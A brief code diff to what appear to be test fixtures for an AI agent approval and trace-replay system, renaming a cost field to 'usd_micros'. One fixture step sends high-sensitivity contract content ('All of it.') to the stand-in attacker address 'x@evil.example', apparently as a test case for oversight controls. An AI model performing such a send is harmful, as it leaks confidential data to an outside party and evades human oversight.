@@ -29,7 +29,7 @@ export const PENDING_APPROVAL = {
         step_id: 's1',
         tool_name: 'make_payment',
         arguments: { payee: 'Stationery Ltd', amount: 2500, currency: 'USD' },
-        cost: { usd: 20000, tokens: 0, tool_calls: 1 },
+        cost: { tokens: 0, tool_calls: 1, usd_micros: 20000 },
         depends_on: [],
         provenance: [],
       },
@@ -162,7 +162,7 @@ export const TRACE_REPLAY = {
         steps: [
           {
             arguments: { body: 'All of it.', subject: 'Contract', to: 'x@evil.example' },
-            cost: { tokens: 0, tool_calls: 1, usd: 0 },
+            cost: { tokens: 0, tool_calls: 1, usd_micros: 0 },
             depends_on: [],
             provenance: [],
             sensitivity_level: 'high',
